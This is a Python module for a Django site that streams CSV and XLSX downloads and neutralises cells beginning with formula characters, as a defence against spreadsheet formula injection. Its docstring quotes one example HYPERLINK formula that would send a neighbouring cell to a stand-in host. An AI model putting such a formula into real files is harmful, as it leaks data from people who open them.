"""Every CSV and XLSX file the site writes goes through here, so text typed by residents never runs as a formula.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a tab or a carriage
return) as a formula: ``=HYPERLINK("http://x/?"&A2,"Ver")`` in a problem's title would send the neighbouring cell
to a stranger when the staff member opens the file. OWASP's rule is applied to every cell: text starting with one
of those characters gets a leading single quote, so it is shown as text. Numbers (``int``, ``float``,
``Decimal``) and text that is just a number (``-74.1``, ``+573001234567``) are left as they are: they cannot run.

Files written elsewhere for a program, not a person (Pol.is's export), read it back with ``cell_restore``.
"""

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence

from django.http import HttpResponse, StreamingHttpResponse
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")
BOM = "\ufeff"  # Excel opens UTF-8 with accents correctly only with it
CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
STREAM_CHUNK = 64_000


def cell_neutralise(value):
    """The value a spreadsheet may safely receive: text that would start a formula gets a leading quote."""
    # Text already quoted the same way is quoted once more, so ``cell_restore`` gives back exactly what was written.
    if isinstance(value, str) and value.lstrip("'").startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def cell_restore(text: str) -> str:
    """The text ``cell_neutralise`` was given (for importing a file this site exported)."""
    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS):
        return text[1:]
    return text


def _row(row: Iterable) -> list:
    return [cell_neutralise(value) for value in row]


def csv_chunks(rows: Iterable[Sequence], *, bom: bool = False, lineterminator: str = "\r\n") -> Iterator[str]:
    """The CSV text in pieces of about 64 kB, written as ``rows`` are read (memory stays flat)."""
    buffer = io.StringIO()
    if bom:
        buffer.write(BOM)
    writer = csv.writer(buffer, lineterminator=lineterminator)
    for row in rows:
        writer.writerow(_row(row))
        if buffer.tell() > STREAM_CHUNK:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def csv_text(rows: Iterable[Sequence], *, bom: bool = False, lineterminator: str = "\r\n") -> str:
    return "".join(csv_chunks(rows, bom=bom, lineterminator=lineterminator))


def _attachment(response, filename: str):
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(rows: Iterable[Sequence], *, filename: str, bom: bool = True, streaming: bool = False):
    """A CSV download; ``streaming`` sends it while the rows are read (for exports that may be large)."""
    if streaming:
        return _attachment(StreamingHttpResponse(csv_chunks(rows, bom=bom), content_type=CSV_TYPE), filename)
    return _attachment(HttpResponse(csv_text(rows, bom=bom), content_type=CSV_TYPE), filename)


def _xlsx_cell(value):
    value = cell_neutralise(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)  # control characters openpyxl refuses to write
    return value


def xlsx_bytes(sheets: Iterable[tuple[str, Iterable[Sequence]]]) -> bytes:
    """A workbook of ``(title, rows)`` sheets, written row by row."""
    workbook = Workbook(write_only=True)
    for title, rows in sheets:
        sheet = workbook.create_sheet(str(title)[:31])  # Excel's limit for a sheet's name
        for row in rows:
            sheet.append([_xlsx_cell(value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(sheets: Iterable[tuple[str, Iterable[Sequence]]], *, filename: str) -> HttpResponse:
    return _attachment(HttpResponse(xlsx_bytes(sheets), content_type=XLSX_TYPE), filename)
